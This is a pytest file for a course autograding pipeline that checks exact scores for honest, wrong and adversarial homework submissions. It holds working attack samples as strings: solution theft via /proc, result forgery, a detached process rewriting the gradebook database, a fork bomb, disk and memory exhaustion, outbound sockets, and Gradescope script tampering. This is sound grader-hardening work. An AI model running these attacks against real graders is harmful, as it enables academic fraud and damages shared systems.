"""The homework pipeline end to end: release, submissions made here, autograde, grades, feedback.

Every submission's score is asserted exactly: the instructor's solution, a blank release,
plausible wrong answers, code that raises, loops forever or prints megabytes, tampered
test cells, a submission that monkeypatches what the tests call (which fools plain
nbgrader, as asserted here too), and one that looks for the hidden tests on disk.
"""

import hashlib
import html as html_text
import json
import os
import pathlib
import re
import shutil
import subprocess
import sys
import time

import nbformat
import pytest
from testkit.handout import checked_upload
from testkit.homework import COPIED_4, COPIED_6, PIXEL_MEMORY, STUDENT_ID_TAG, cell_key

from benchmarks.gradescope import SYSTEM_PYTHON, Imitation
from mtml_lib import course as homework
from mtml_lib.course import folder as course_folder
from mtml_lib.course import gradescope
from mtml_lib.course.editions.code_cells import catalog, translated
from mtml_lib.course.folder import STUBS
from mtml_lib.grading.unprivileged import processes_of

pytestmark = pytest.mark.slow

ROOT = pathlib.Path(__file__).resolve().parents[2]
HW1, HW2 = "hw1_multitask", "hw2_blackbox"
GENERATED = (
    "release",
    "submitted",
    "autograded",
    "feedback",
    "gradebook.db",
    "reference",
    "__pycache__",
)


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    target = tmp_path_factory.mktemp("course") / "homework"
    shutil.copytree(
        ROOT / "notebooks" / "homework", target, ignore=shutil.ignore_patterns(*GENERATED)
    )
    for assignment in (HW1, HW2):
        homework.release(target, assignment, quiet=True)
    return target


def cells_by_id(notebook):
    return {cell_key(c): c for c in notebook.cells}


def solution(course, assignment, grade_id):
    """The instructor's answer for a cell, without the solution markers."""
    source = nbformat.read(course / "source" / assignment / f"{assignment}.ipynb", as_version=4)
    text = cells_by_id(source)[grade_id].source
    return "\n".join(
        line
        for line in text.splitlines()
        if "### BEGIN SOLUTION" not in line and "### END SOLUTION" not in line
    )


def submission(
    course, assignment, student, folder, answers=None, *, extra_after=None, tests=None, delete=()
):
    """The release notebook with some cells filled in, written to ``folder/<student>/``; its
    STUDENT_ID is the student's (unless ``answers`` says otherwise), as the text asks."""
    notebook = nbformat.read(course / "release" / assignment / f"{assignment}.ipynb", as_version=4)
    cells = cells_by_id(notebook)
    own = cells[STUDENT_ID_TAG].source.replace('STUDENT_ID = ""', f"STUDENT_ID = {student!r}")
    answers = {STUDENT_ID_TAG: own, **(answers or {})}
    for grade_id, text in (answers or {}).items():
        cells[grade_id].source = text
    for grade_id, text in (tests or {}).items():
        cells[grade_id].source = text
    notebook.cells = [
        c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in delete
    ]
    if extra_after:
        index = next(
            i
            for i, c in enumerate(notebook.cells)
            if c.metadata.get("nbgrader", {}).get("grade_id") == "setup"
        )
        notebook.cells.insert(index + 1, nbformat.v4.new_code_cell(extra_after))
    target = folder / student
    target.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook, target / f"{assignment}.ipynb")


def full_solution(course, assignment):
    source = nbformat.read(course / "source" / assignment / f"{assignment}.ipynb", as_version=4)
    ids = [
        c.metadata["nbgrader"]["grade_id"]
        for c in source.cells
        if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution")
    ]
    return {grade_id: solution(course, assignment, grade_id) for grade_id in ids}


def replace(text, old, new):
    assert old in text, old
    return text.replace(old, new)


def gradebook_scores(course, assignment):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        return {
            s.student.id: {
                "auto": sum(
                    g.auto_score or 0 for g in s.notebooks[0].grades if g.cell_type == "code"
                ),
                "final": sum(g.score for g in s.notebooks[0].grades if g.cell_type == "code"),
            }
            for s in gradebook.assignment_submissions(assignment)
        }


# --- the release -------------------------------------------------------------------------


@pytest.mark.parametrize("assignment", [HW1, HW2])
def test_the_release_has_no_solutions_and_no_hidden_tests(course, assignment):
    text = (course / "release" / assignment / f"{assignment}.ipynb").read_text(encoding="utf-8")
    assert "BEGIN HIDDEN TESTS" not in text and "BEGIN SOLUTION" not in text
    assert text.count("raise NotImplementedError()") >= 4
    source = nbformat.read(course / "source" / assignment / f"{assignment}.ipynb", as_version=4)
    hidden, given = [], []
    for cell in source.cells:
        inside = False
        for line in cell.source.splitlines():
            if "### BEGIN SOLUTION" in line or "### END SOLUTION" in line:
                inside = "BEGIN" in line
            elif (
                inside
                and len(line.strip()) > 25
                and not line.strip().startswith(("def ", "class "))
            ):
                hidden.append(line.strip())
            elif not inside:
                given.append(line)
    # every answer line is gone, except what the questions themselves spell out
    given = "\n".join(given)
    hidden = [line for line in hidden if line not in given]
    assert hidden and not [line for line in hidden if line in text]
    assert not list((course / "release" / assignment).glob("*.py"))  # graders are never released


def test_hidden_tests_are_not_on_the_students_disk(course, tmp_path):
    """A submission that searches the student's machine for hidden tests finds nothing."""
    student_machine = tmp_path / "student"
    shutil.copytree(course / "release" / HW1, student_machine / HW1)
    snoop = (
        "import pathlib\nmarker = 'BEGIN HIDDEN' + ' TESTS'  # assembled, so this notebook does "
        "not match itself\nfound = [p for p in pathlib.Path('..').resolve().rglob('*') if "
        "p.is_file() and marker in p.read_text(errors='ignore')]\nprint('files with hidden "
        "tests:', len(found))"
    )
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(snoop)])
    path = student_machine / HW1 / "snoop.ipynb"
    nbformat.write(notebook, path)
    from nbclient import NotebookClient

    NotebookClient(
        notebook, kernel_name="python3", resources={"metadata": {"path": str(path.parent)}}
    ).execute()
    assert notebook.cells[0].outputs[0]["text"].strip() == "files with hidden tests: 0"


# --- HW1: every kind of submission ----------------------------------------------------------


def hw1_answers(course):
    """The instructor's answers to HW1, and plausible wrong ones."""
    right = full_solution(course, HW1)
    wrong = {
        "multihead": right["multihead"],
        "film": replace(
            right["film"],
            "h = torch.relu(self.gamma1[task_id] * self.layer1(x) + self.beta1[task_id])",
            "h = torch.relu(self.gamma1[0] * self.layer1(x) + self.beta1[0])  # one gamma for all",
        ),
        "uncertainty": replace(
            replace(
                right["uncertainty"],
                "return (0.5 * torch.exp(-self.log_variance)).detach()",
                "return torch.exp(-self.log_variance).detach()",
            ),
            "return (0.5 * torch.exp(-s) * losses + 0.5 * s).sum()",
            "return (torch.exp(-s) * losses + s).sum()",
        ),
        "mmoe": replace(
            right["mmoe"], "return torch.softmax(mine, dim=-1)", "return mine  # no softmax"
        ),
    }
    return right, wrong


@pytest.fixture(scope="module")
def hw1_scores(course, tmp_path_factory, handouts):
    folder = tmp_path_factory.mktemp("hw1_submissions")
    right, wrong = hw1_answers(course)
    submission(course, HW1, "solution", folder, right)
    # the same answers, checked in the student handout and uploaded as `mtml check` wrote them
    upload, printed, seconds = checked_upload(
        handouts["en"], HW1, right, "uploaded", tmp_path_factory.mktemp("hw1_handout")
    )
    print(f"\n`workbook.py check {HW1}` of the solved homework: {seconds:.0f} s\n{printed}")
    shutil.copy(upload, folder / upload.name)
    submission(course, HW1, "blank", folder)
    submission(course, HW1, "wrong", folder, wrong)
    swapped = replace(  # the like weight put on the click objective
        right["recommender"],
        "train_and_test(model_class, train, test, [1.0, w])",
        "train_and_test(model_class, train, test, [w, 1.0])",
    )
    # a part-6 mistake, in a submission that also prints 3 MB (output must not stop the grading)
    submission(
        course,
        HW1,
        "partial",
        folder,
        {**right, "recommender": swapped},
        extra_after="print('x' * 3_000_000)",
    )
    submission(
        course,
        HW1,
        "raises",
        folder,
        {
            **right,
            "multihead": replace(
                right["multihead"], "features = self.trunk(x)", "raise RuntimeError('not finished')"
            ),
        },
    )
    submission(
        course,
        HW1,
        "loops",
        folder,
        {**right, "experiment": "def run_experiment(steps, seed):\n    while True:\n        pass"},
    )
    submission(
        course,
        HW1,
        "tampered",
        folder,
        wrong,
        delete=("test_film",),
        tests={"test_multihead": "pass", "test_uncertainty": "pass", "test_experiment": "pass"},
    )
    # parts 4 and 6 answered with numbers instead of runs: constants in part 4's band, and a
    # table of plausible AUCs for part 6 (as one could copy from a classmate's run)
    submission(
        course, HW1, "copied", folder, {**right, "experiment": COPIED_4, "recommender": COPIED_6}
    )
    monkeypatch = (
        "import torch, builtins\ntorch.allclose = lambda *args, **kwargs: True\ntorch.equal = "
        "lambda *args, **kwargs: True\nget_ipython().input_transformers_post.append(lambda lines: "
        "['pass\\n'])  # empties every later cell"
    )
    submission(course, HW1, "monkeypatch", folder, wrong, extra_after=monkeypatch)
    for student, (answers, attack) in attacks(course).items():
        submission(course, HW1, student, folder, answers, extra_after=attack)
    releases = homework.collect(course, HW1, folder)
    assert releases["solution"] == "no release stamp"
    stamp = json.loads((handouts["en"].root / ".mtml-release.json").read_text(encoding="utf-8"))
    assert releases["uploaded"] == f"{stamp['version']} en 2026-12-01 {stamp['release']}"
    before = tree(course)
    trusted = homework.autograde(course, HW1, cell_timeout=15, probe_timeout=60, jobs=2)
    time.sleep(ATTACK_DELAY + 5)  # a detached writer would have struck by now
    return trusted, gradebook_scores(course, HW1), before, tree(course)


ATTACK_DELAY = 5
ATTACKS = ("attack_steal", "attack_forge", "attack_writer", "attack_assembled", "attack_hostile")


def attacks(course):
    """Submissions that solve nothing honestly and attack the grader instead (each scored marks
    while the graded code ran as the instructor, in the course folder)."""
    course = str(course)
    steal = f"""
import json, os, pathlib, sys
import mtml_lib
checkout = pathlib.Path(mtml_lib.__file__).parents[1]
places = {{pathlib.Path({course!r}), checkout / "notebooks" / "homework"}}
for module in list(sys.modules.values()):  # the grader module's file, wherever it is
    if "grader" in str(getattr(module, "__file__", "")):
        places.add(pathlib.Path(module.__file__).resolve().parent.parent)
for pid in ("self", str(os.getppid()), "1"):  # paths on command lines
    for arg in open(f"/proc/{{pid}}/cmdline").read().split(chr(0)):
        places.update(pathlib.Path(arg).parents)
for place in places:
    for source in place.glob("source/*/*.ipynb"):
        for cell in json.loads(source.read_text())["cells"]:
            nbgrader = cell["metadata"].get("nbgrader", {{}})
            if cell["cell_type"] == "code" and nbgrader.get("solution"):
                exec("".join(cell["source"]), globals())
"""
    forge = f"""
import atexit, glob, os
def forge():  # at exit, put the reference probe data where the probe results go
    for path in glob.glob({course!r} + "/graders/reference/*.json"):
        data = open(path, "rb").read()
        for fd in range(1, 64):
            try:
                os.ftruncate(fd, 0)
                os.lseek(fd, 0, 0)
            except OSError:
                pass
            try:
                os.write(fd, data)
            except OSError:
                pass
atexit.register(forge)
"""
    script = (
        f"import sqlite3, time\ntime.sleep({ATTACK_DELAY})\n"
        f"db = sqlite3.connect({course + '/gradebook.db'!r})\n"
        "db.execute('update grade set manual_score = 100')\ndb.commit()\n"
    )
    writer = f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", {script!r}], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
    assembled = {
        "multihead": "import importlib\nmodels = importlib.import_module('mtml_lib.models.' + "
        "'condi' + 'tioning')\n\ndef MultiHeadModel(**kwargs):\n"
        "    return models.get_conditioning('multihead', **kwargs)",
        "uncertainty": "import importlib\nweights = importlib.import_module('mtml_lib.weighting.' "
        "+ 'uncer' + 'tainty')\n\nclass MyUncertaintyWeighting(getattr(weights, "
        "'Uncertainty' + 'Weighting')):\n    pass",
    }
    bomb = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
    hostile = f"""
import os, socket, subprocess, sys
for address in [("1.1.1.1", 443), ("pypi.org", 443)]:  # the network
    try:
        socket.create_connection(address, timeout=3).sendall(b"my grades")
    except OSError:
        pass
for path in ({course + "/gradebook.db"!r}, {course + "/graders/hw1_multitask.py"!r}):
    try:  # files outside the scratch folder
        open(path, "ab").write(b"x")
    except OSError:
        pass
try:  # memory
    hog = bytearray(64 * 1024**3)
except MemoryError:
    pass
try:  # the disk
    for i in range(100_000):
        open(f"fill{{i}}", "wb").write(b"x" * 2**20)
except OSError:
    pass
subprocess.Popen([sys.executable, "-c", {bomb!r}], start_new_session=True)  # a fork bomb
"""
    # the stolen solutions go in every answer cell, so no blank answer runs after them
    every_answer = dict.fromkeys(
        ("multihead", "film", "uncertainty", "experiment", "mmoe", "recommender", "analysis-code"),
        steal,
    )
    return {
        "attack_steal": (every_answer, None),
        "attack_forge": ({}, forge),
        "attack_writer": ({}, writer),
        "attack_assembled": (assembled, None),
        "attack_hostile": ({}, hostile),
    }


def tree(course):
    """Every file of the course folder with its hash, less what autograde writes."""
    written = {"autograded", "feedback", "reference", "gradebook.db"}
    return {
        str(path.relative_to(course)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(course.rglob("*"))
        if path.is_file() and not set(path.relative_to(course).parts) & written
    }


PARTS_HW1 = (
    "test_multihead",
    "test_film",
    "test_uncertainty",
    "test_experiment",
    "test_mmoe",
    "test_recommender",
)


def hw1(*points):
    return dict(zip(PARTS_HW1, points, strict=True))


EXPECTED_HW1 = {
    "solution": hw1(3, 3, 3, 2, 4, 5),
    "uploaded": hw1(3, 3, 3, 2, 4, 5),  # the solution, through the handout's check
    "blank": hw1(0, 0, 0, 0, 0, 0),
    # FiLM's first layer ignores the task; the MMoE's gates are not normalised
    "wrong": hw1(3, 2, 0, 0, 2, 0),
    # at like weight 0 the like tower trains (and click does not): one check of part 6; the
    # 3 MB it prints changes nothing
    "partial": hw1(3, 3, 3, 2, 4, 4),
    # part 6 trains the multi-head model, whose forward raises
    "raises": hw1(0, 3, 3, 0, 4, 0),
    "loops": hw1(3, 3, 3, 0, 4, 5),
    # numbers instead of runs: parts 4 and 6 earn nothing (the models of parts 1-5 are honest)
    "copied": hw1(3, 3, 3, 0, 4, 0),
    "tampered": hw1(3, 2, 0, 0, 2, 0),
    "monkeypatch": hw1(3, 2, 0, 0, 2, 0),
    **{attack: hw1(0, 0, 0, 0, 0, 0) for attack in ATTACKS},
}


@pytest.mark.parametrize("student", sorted(EXPECTED_HW1))
def test_hw1_scores_are_exact(hw1_scores, student):
    trusted, gradebook, _, _ = hw1_scores
    assert trusted[student] == EXPECTED_HW1[student]
    # what the grade table shows
    assert gradebook[student]["final"] == sum(EXPECTED_HW1[student].values())


def test_the_attacks_leave_the_course_folder_as_it_was(hw1_scores):
    _, _, before, after = hw1_scores
    assert after == before


def test_the_library_version_is_refused_with_a_reason(course, hw1_scores):
    graded = nbformat.read(
        course / "autograded" / "attack_assembled" / HW1 / f"{HW1}.ipynb", as_version=4
    )
    text = json.dumps([c.outputs for c in graded.cells if c.cell_type == "code"])
    assert "mtml_lib.weighting.uncertainty is not available while grading" in text
    assert "mtml_lib.models.conditioning is not available while grading" in text


def test_the_monkeypatch_fools_plain_nbgrader_but_not_the_trusted_grade(hw1_scores):
    _, gradebook, _, _ = hw1_scores
    assert gradebook["monkeypatch"]["auto"] == 20  # in-kernel tests all "passed"
    assert gradebook["monkeypatch"]["final"] == 7


def test_grades_and_feedback(course, hw1_scores, tmp_path):
    out = tmp_path / "grades.csv"
    subprocess.run(
        [
            sys.executable,
            "-m",
            "mtml_lib.cli",
            "--course",
            str(course),
            "grades",
            "--out",
            str(out),
        ],
        check=True,
    )
    rows = out.read_text(encoding="utf-8").splitlines()
    assert rows[0].startswith("assignment,") and sum(HW1 in row for row in rows) == len(
        EXPECTED_HW1
    )
    course_folder.nbgrader(course, "generate_feedback", HW1, "--force", quiet=True)
    html = (course / "feedback" / "wrong" / HW1 / f"{HW1}.html").read_text(encoding="utf-8")
    # The trusted grade and the explanation of a failed check reach the student.
    assert "[graded] 2 of 3 points" in html and "every layer must act on its own task" in html
    # No hidden test's source does, nor a traceback of one (nbgrader's own feedback shows both).
    text = html_text.unescape(re.sub(r"<[^>]+>", "", html))
    hidden = hidden_lines(course / "source" / HW1 / f"{HW1}.ipynb")
    assert len(hidden) > 20 and [line for line in hidden if line in text] == []
    assert text.count("(hidden tests: their verdict is below)") == 6
    assert "AssertionError" not in text  # a test's traceback would quote its failing line


def hidden_lines(notebook):
    """The lines of the hidden tests of a source notebook (long enough to be telling)."""
    lines = []
    for cell in nbformat.read(notebook, as_version=4).cells:
        inside = False
        for line in cell.source.splitlines():
            if "BEGIN HIDDEN TESTS" in line or "END HIDDEN TESTS" in line:
                inside = "BEGIN" in line
            elif inside and len(line.strip()) > 12:
                lines.append(line.strip())
    return lines


# --- HW2 ------------------------------------------------------------------------------------


COPIED_HW2 = {
    "train": "def train(num_classes, steps, seed, k_shot=1):\n    torch.manual_seed(seed)\n"
    "    return MANN(num_classes=num_classes, samples_per_class=k_shot + 1)\n",
    "evaluate": "def evaluate(model, num_classes, k_shot, episodes, seed):\n"
    "    return 0.946, 0.012  # the reference's 2-way figures\n",
}
LIBRARY_HW2 = {
    "make_batch": "from mtml_lib.data.sequence_layout import sequence_layout\n\n\n"
    "def make_batch(episode, generator):\n"
    "    return sequence_layout(episode, generator=generator)\n",
    "mann": "from mtml_lib.models.blackbox.memory import LSTMMemory\n\n\n"
    "class MANN(nn.Module):\n    def __init__(self, num_classes, samples_per_class, hidden=128):\n"
    "        super().__init__()\n        self.num_classes = num_classes\n"
    "        self.samples_per_class = samples_per_class\n"
    "        self.memory = LSTMMemory(n_way=num_classes, hidden=hidden)\n\n"
    "    def forward(self, images, labels):\n"
    "        return self.memory.forward_layout(images, labels)\n",
}


@pytest.fixture(scope="module")
def hw2_scores(course, tmp_path_factory, handouts):
    tmp_path = tmp_path_factory.mktemp("hw2_submissions")
    right = full_solution(course, HW2)
    wrong = {
        "make_batch": right["make_batch"],
        "mann": replace(
            right["mann"],
            "shown = torch.cat([labels[:, :-1], torch.zeros_like(labels[:, -1:])], dim=1)",
            "shown = labels  # forgot to hide the query labels",
        ),
        "query_loss": "def query_loss(predictions, labels):\n    N = labels.shape[-1]\n"
        "    return F.cross_entropy(predictions.reshape(-1, N), labels.reshape(-1, N).argmax(-1))",
        "sample_batch": replace(  # the query row left in label order
            right["sample_batch"],
            "episode[-1], labels[-1] = episode[-1, order], labels[-1, order]",
            "pass",
        ),
        "evaluate": replace(  # predicts with gradients on
            right["evaluate"], "with torch.no_grad():", "if True:"
        ),
    }
    submission(course, HW2, "solution", tmp_path, right)
    submission(course, HW2, "blank", tmp_path)
    submission(course, HW2, "wrong", tmp_path, wrong)
    # part 5 without meta-training: a "memory" that is pixel nearest neighbour (91% on the
    # grader's episodes, above the 70% bar, while its weights stay as they were built)
    submission(course, HW2, "pixels", tmp_path, {**right, "train": PIXEL_MEMORY})
    # numbers instead of a measurement, and a "trained" model that never trained
    submission(course, HW2, "copied", tmp_path, {**right, **COPIED_HW2})
    # the library's own layout and memory learner, which grading makes unavailable
    submission(course, HW2, "library", tmp_path, {**right, **LIBRARY_HW2})
    upload, printed, seconds = checked_upload(
        handouts["en"], HW2, right, "uploaded", tmp_path / "handout"
    )
    print(f"\n`workbook.py check {HW2}` of the solved homework: {seconds:.0f} s\n{printed}")
    shutil.copy(upload, tmp_path / upload.name)
    shutil.rmtree(tmp_path / "handout")
    homework.collect(course, HW2, tmp_path)
    return homework.autograde(course, HW2, cell_timeout=30, probe_timeout=120, jobs=2)


PARTS_HW2 = ("test_sample_batch", "test_make_batch", "test_mann", "test_query_loss")
PARTS_HW2 += ("test_train", "test_evaluate")


def test_hw2_scores_are_exact(course, hw2_scores):
    trusted, parts = hw2_scores, PARTS_HW2
    assert trusted["solution"] == dict(zip(parts, (4, 3, 4, 2, 3, 4)))
    assert trusted["uploaded"] == trusted["solution"]  # through the handout's check
    assert gradebook_scores(course, HW2)["uploaded"] == gradebook_scores(course, HW2)["solution"]
    assert trusted["blank"] == dict.fromkeys(parts, 0)
    # the query row is not shuffled (half a point of part 1); the query labels reach the model
    # (one check of part 3); the loss is taken over every row; evaluation records gradients (one
    # check)
    assert trusted["wrong"] == dict(zip(parts, (3.5, 3, 3, 0, 0, 3)))
    assert trusted["pixels"] == dict(zip(parts, (4, 3, 4, 2, 0, 4)))
    assert trusted["copied"] == dict(zip(parts, (4, 3, 4, 2, 0, 0)))
    assert trusted["library"] == dict(zip(parts, (4, 0, 0, 2, 0, 4)))


# --- Gradescope: the same grades from the autograder zip, in a local imitation ---------------

LOCATE = """
import os, pathlib
def _autograder():  # Gradescope's folder: the grading process's last argument
    try:
        args = open(f"/proc/{os.getppid()}/cmdline").read().split(chr(0))
        return pathlib.Path([a for a in args if a][-1])
    except OSError:
        return pathlib.Path("/autograder")
ROOT = _autograder()
"""
FULL_MARKS = json.dumps({"score": 20, "output": "forged", "tests": []})
GRADESCOPE_ATTACKS = {
    # its own results.json: now, at exit, and from a process that outlives the run
    "gs_results": LOCATE
    + f"""
import atexit, subprocess, sys
def forge():
    for name in ("results/results.json", "results/.results.json.partial"):
        try:
            (ROOT / name).write_text({FULL_MARKS!r})
        except OSError:
            pass
forge()
atexit.register(forge)
later = f"import time; time.sleep(8); open({{str(ROOT / 'results' / 'results.json')!r}}, 'w')"
later += f".write({FULL_MARKS!r})"
subprocess.Popen([sys.executable, "-c", later], start_new_session=True)
""",
    # the autograder's scripts, edited or replaced
    "gs_scripts": LOCATE
    + """
SOURCE = ROOT / "source"
for target in (ROOT / "run_autograder", SOURCE / "run_autograder", SOURCE / "setup.sh"):
    try:
        with open(target, "a") as script:
            script.write("\\necho '{\\"score\\": 20}' > results/results.json\\n")
    except OSError:
        pass
    try:
        os.replace(target, ROOT / "results" / "moved")
    except OSError:
        pass
""",
    # the grader, the hidden tests' verdicts and the reference data, read and handed back through
    # an error message that becomes feedback
    "gs_source": LOCATE
    + """
LEAK = []
for path in [ROOT / "source" / "reference.json", ROOT / "source" / "config.json",
             ROOT / "source" / "grader" / "hw1_multitask.py"]:
    try:
        LEAK.append(path.read_text()[:60])
    except OSError as error:
        LEAK.append(type(error).__name__)

class MultiHeadModel:
    def __init__(self, **kwargs):
        raise RuntimeError(" | ".join(LEAK))
""",
}
GRADESCOPE_HW1 = ("solution", "blank", "wrong", "partial", *ATTACKS)
# Gradescope runs its autograder as root; the submission's user runs the system's Python
AS_ON_GRADESCOPE = pytest.mark.skipif(
    os.geteuid() != 0 or not os.path.exists(SYSTEM_PYTHON),
    reason=f"the imitation of Gradescope runs as root, with {SYSTEM_PYTHON}",
)


@pytest.fixture(scope="module")
def gradescope_hw1(course, hw1_scores, tmp_path_factory):
    """HW1's autograder zip (its reference data is what `mtml autograde` cached), set up in the
    imitation, and the Gradescope attacks written as submissions."""
    archive = tmp_path_factory.mktemp("gradescope") / "hw1.zip"
    started = time.perf_counter()
    gradescope.build(course, HW1, archive)
    print(
        f"\nHW1's autograder zip: {archive.stat().st_size / 2**20:.1f} MiB in "
        f"{time.perf_counter() - started:.0f} s"
    )
    imitation = Imitation(archive)
    print(f"setup.sh (offline) {imitation.setup_seconds:.0f} s")
    folder = tmp_path_factory.mktemp("gradescope_submissions")
    for student, attack in GRADESCOPE_ATTACKS.items():
        if student == "gs_source":  # the part-1 answer, so that its probe meets the leak
            submission(course, HW1, student, folder, {"multihead": attack})
        else:
            submission(course, HW1, student, folder, extra_after=attack)
    yield imitation, folder
    imitation.remove()


def graded_on_gradescope(imitation, notebook, student):
    before = imitation.digest()
    results, seconds, _ = imitation.grade({f"{HW1}.ipynb": notebook}, f"{student}@example.edu")
    print(f"{student}: {results['score']:g} points in {seconds:.0f} s")
    assert imitation.digest() == before  # scripts, grader, reference data: untouched
    assert processes_of(gradescope.UID) == []
    return results


@AS_ON_GRADESCOPE
def test_gradescope_grades_hw1_as_mtml_autograde_does(course, hw1_scores, gradescope_hw1):
    imitation, _ = gradescope_hw1
    trusted, graded = hw1_scores[0], {}
    for student in GRADESCOPE_HW1:
        notebook = course / "submitted" / student / HW1 / f"{HW1}.ipynb"
        results = graded[student] = graded_on_gradescope(imitation, notebook, student)
        if student == "solution":
            assert results["tests"][0]["output"] == "graded; no cell ran into a grading limit"
        got = {test["name"]: test["score"] for test in results["tests"][1:]}
        assert got == trusted[student], student
        assert results["score"] == sum(trusted[student].values())
        assert [t["max_score"] for t in results["tests"]] == [0, 3, 3, 3, 2, 4, 5]
        assert "Written answers are graded by hand." in results["output"]
        # every part holds hidden tests: their verdicts and the total wait for publishing, and
        # the one test shown at once says what ran
        assert results["visibility"] == "after_published"
        assert [t["visibility"] for t in results["tests"]] == ["visible"] + ["after_published"] * 6
    # a failed check's message is the part's feedback; a hidden test's source is not in it
    wrong = graded["wrong"]
    film = next(t for t in wrong["tests"] if t["name"] == "test_film")
    assert "every layer must act on its own task" in film["output"]
    assert "BEGIN HIDDEN TESTS" not in json.dumps(wrong) and "assert" not in json.dumps(wrong)


@AS_ON_GRADESCOPE
def test_gradescope_attacks_score_nothing_and_change_nothing(gradescope_hw1):
    imitation, folder = gradescope_hw1
    for student in GRADESCOPE_ATTACKS:
        notebook = folder / student / f"{HW1}.ipynb"
        results = graded_on_gradescope(imitation, notebook, student)
        assert results["score"] == 0 and "forged" not in json.dumps(results), student
        if student == "gs_results":
            time.sleep(10)  # the detached writer would have struck by now
            kept = json.loads(
                (imitation.root / "results" / "results.json").read_text(encoding="utf-8")
            )
            assert kept == results
        if student == "gs_source":
            multihead = next(t for t in results["tests"] if t["name"] == "test_multihead")
            shown = results["output"] + "".join(t["output"] for t in results["tests"])
            for secret in ("reference.json", "config.json", f"grader/{HW1}.py"):
                assert (imitation.root / "source" / secret).read_text(encoding="utf-8")[
                    :60
                ] not in shown
            assert multihead["output"].count("PermissionError") == 3, multihead
            assert "probe" not in multihead["output"] and "hidden" not in multihead["output"]
        assert not (imitation.root / "results" / "moved").exists()


@AS_ON_GRADESCOPE
def test_gradescope_grades_hw2_as_mtml_autograde_does(course, hw2_scores, tmp_path):
    archive = tmp_path / "hw2.zip"
    gradescope.build(course, HW2, archive)
    imitation = Imitation(archive)
    try:
        for student in ("solution", "blank", "wrong", "library"):
            notebook = course / "submitted" / student / HW2 / f"{HW2}.ipynb"
            results = graded_on_gradescope_hw2(imitation, notebook, student)
            assert {t["name"]: t["score"] for t in results["tests"][1:]} == hw2_scores[student]
    finally:
        imitation.remove()


def graded_on_gradescope_hw2(imitation, notebook, student):
    results, seconds, _ = imitation.grade({f"{HW2}.ipynb": notebook}, f"{student}@example.edu")
    print(f"HW2 {student}: {results['score']:g} points in {seconds:.0f} s")
    return results


@AS_ON_GRADESCOPE
def test_gradescope_names_a_missing_notebook(gradescope_hw1, tmp_path):
    imitation, _ = gradescope_hw1
    other = tmp_path / "notes.txt"
    other.write_text("no notebook here", encoding="utf-8")
    results, _, _ = imitation.grade({"notes.txt": other}, "someone@example.edu")
    assert results["score"] == 0
    assert f"no notebook named {HW1}.ipynb in the submission (found: none)" in results["output"]


# --- the student workbook -------------------------------------------------------------------


def test_the_student_workbook(course, tmp_path):
    out = tmp_path / "student"
    homework.build_workbook(out, source=ROOT / "notebooks", course=course)
    labs = sorted(out.glob("0*.ipynb"))
    assert [p.name for p in labs] == [
        p.name for p in sorted((ROOT / "notebooks").glob("[0-9][0-9]_*.ipynb"))
    ]
    for lab in labs:
        text = lab.read_text(encoding="utf-8")
        assert "BEGIN SOLUTION" not in text and "raise NotImplementedError()" in text
        notebook = json.loads(text)
        assert all(not c.get("outputs") for c in notebook["cells"] if c["cell_type"] == "code")
        assert notebook["metadata"]["kernelspec"]["name"] == "python3"
    assert (out / "homework" / HW1 / f"{HW1}.ipynb").exists() and (
        out / "homework" / HW2 / f"{HW2}.ipynb"
    ).exists()
    # Running them is tests/course/test_handout.py's: every student notebook, both editions.


# --- the Korean edition: the same pipeline in the other language ---------------------------

HANGUL = re.compile("[\uac00-\ud7a3]")


@pytest.fixture(scope="module")
def course_ko(tmp_path_factory):
    """The Korean edition's course folder, written by `mtml edition --lang ko`."""
    target = tmp_path_factory.mktemp("course_ko") / "homework"
    subprocess.run(
        [sys.executable, "-m", "mtml_lib.cli", "--course", str(ROOT / "notebooks" / "homework")]
        + ["edition", "--lang", "ko", "--out", str(target)],
        check=True,
        capture_output=True,
    )
    assert homework.course_language(target) == "ko"
    for assignment in (HW1, HW2):
        homework.release(target, assignment, quiet=True)
    return target


@pytest.mark.parametrize("assignment", [HW1, HW2])
def test_the_korean_release_is_the_english_one_in_korean(course, course_ko, assignment):
    korean_code = catalog(course_ko / "graders" / "locale", "homework", "ko")
    # the stub's comment, in each edition's language, stands where a solution was: translated
    # alone (the source's comment above a solution is a block of its own, translated before the
    # solution gives way to the stub)
    english_stub, korean_stub = (f"# {STUBS[language]['code']}" for language in ("en", "ko"))
    placeholder = "__stub__ = 0"
    english, korean = (
        nbformat.read(c / "release" / assignment / f"{assignment}.ipynb", as_version=4)
        for c in (course, course_ko)
    )
    ids = [
        [c.metadata.get("nbgrader", {}).get("grade_id") for c in n.cells] for n in (english, korean)
    ]
    assert ids[0] == ids[1] and len(english.cells) == len(korean.cells)
    for en, ko in zip(english.cells, korean.cells):
        assert "mtml" not in en.metadata and "mtml" not in ko.metadata  # no twins released
        if en.cell_type == "markdown":
            assert HANGUL.search(ko.source) and not HANGUL.search(en.source)
        else:  # the same code: its comments and shown strings from the homework's catalog
            english_code = en.source.replace('LANGUAGE = "en"', 'LANGUAGE = "ko"')
            english_code = english_code.replace(english_stub, placeholder)
            expected = translated(english_code, korean_code).replace(placeholder, korean_stub)
            assert ko.source == expected
    text = (course_ko / "release" / assignment / f"{assignment}.ipynb").read_text(encoding="utf-8")
    assert "BEGIN HIDDEN TESTS" not in text and "BEGIN SOLUTION" not in text
    assert "파트 1: 보이는 테스트 통과" in text  # a visible test's message, as a student reads it


def test_the_korean_edition_grades_the_same_and_gives_feedback_in_korean(course_ko, tmp_path):
    # The Korean release's code is the English one (the test above): a partly wrong
    # submission and a blank one show it grades them the same; the solution, the costliest to
    # grade, is graded by the English pipeline.
    _right, wrong = hw1_answers(course_ko)
    submission(course_ko, HW1, "blank", tmp_path)
    submission(course_ko, HW1, "wrong", tmp_path, wrong)
    homework.collect(course_ko, HW1, tmp_path)
